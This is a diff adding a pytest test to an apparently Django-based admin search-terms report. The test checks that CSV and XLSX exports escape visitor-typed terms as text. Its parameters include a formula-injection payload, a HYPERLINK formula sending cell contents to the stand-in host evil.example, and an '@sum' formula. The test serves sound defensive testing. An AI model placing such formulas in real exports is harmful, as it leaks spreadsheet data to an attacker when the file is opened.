@@ -90,3 +90,23 @@ def test_users_without_the_promotion_permissions_do_not_see_the_search_terms(
     response = client.get("/admin/suchbegriffe/")
     assert response.status_code in (302, 403)
     assert "/admin/suchbegriffe/" not in client.get("/admin/").content.decode()
+
+
+@pytest.mark.parametrize("term", ['=hyperlink("http://evil.example/?x="&a2,"klick")', "@sum(a1)"])
+def test_search_terms_export_keeps_visitors_terms_text(editor_client, term):
+    """Visitors type the search terms: the report's CSV and XLSX never hold a formula."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    Query.get(term).add_hit()
+    response = editor_client.get("/admin/suchbegriffe/?export=csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert ["'" + term] in [row[:1] for row in rows]
+    response = editor_client.get("/admin/suchbegriffe/?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == term]
+    assert cell.data_type == "s"
+    assert cell.quotePrefix
